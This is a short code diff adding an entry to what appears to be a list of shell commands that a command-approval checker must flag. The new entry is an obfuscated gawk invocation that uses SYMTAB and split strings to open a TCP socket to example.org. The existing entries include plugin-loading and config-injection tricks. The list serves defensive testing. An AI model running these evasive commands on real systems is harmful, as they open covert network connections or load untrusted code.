@@ -132,4 +132,5 @@ ASKS = (
     ("strings", "strings --plugin ./evil.so f"),
     ("ack", "ack --ackrc=evil x"),
     ("sort", "sort --files0-from=names"),
+    ("awk", 'awk \'BEGIN{SYMTAB["AR" "GV"][1]="/in" "et/tcp/0/example.org/9"} {print}\' in.txt'),
 )
